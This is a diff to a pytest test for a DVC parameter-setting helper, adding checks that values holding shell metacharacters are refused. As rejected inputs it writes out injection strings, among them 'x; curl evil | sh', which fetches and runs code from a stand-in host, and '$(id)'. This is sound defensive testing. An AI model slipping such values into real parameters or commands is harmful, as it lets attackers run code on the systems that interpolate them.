@@ -88,4 +88,10 @@ def test_set_params_edits_the_named_params_file_in_place(tmp_path):
         with pytest.raises(InputError, match=said):
             dvcrepo.set_params(tmp_path, [bad], allowed=allowed)
     assert "python train.py" in (tmp_path / "dvc.yaml").read_text()
+    # values only: nothing a shell would read when a command interpolates the param
+    for value in ("x; curl evil | sh", "$(id)", "a`id`b", "a && b", "[1, 'x;y']", "{k: '$HOME'}"):
+        with pytest.raises(InputError, match="characters a shell would interpret"):
+            dvcrepo.set_params(tmp_path, [f"params.toml:train.steps={value}"], allowed=allowed)
+    assert (tmp_path / "params.toml").read_text() == "[train]\nseed = 3 # fixed\nsteps = 7\n"
+    assert dvcrepo.set_params(tmp_path, ["config/train.yaml:train.steps=2026-12-01T10:00"], allowed=allowed)
     assert (tmp_path / "params.toml").read_text() == "[train]\nseed = 3 # fixed\nsteps = 7\n"
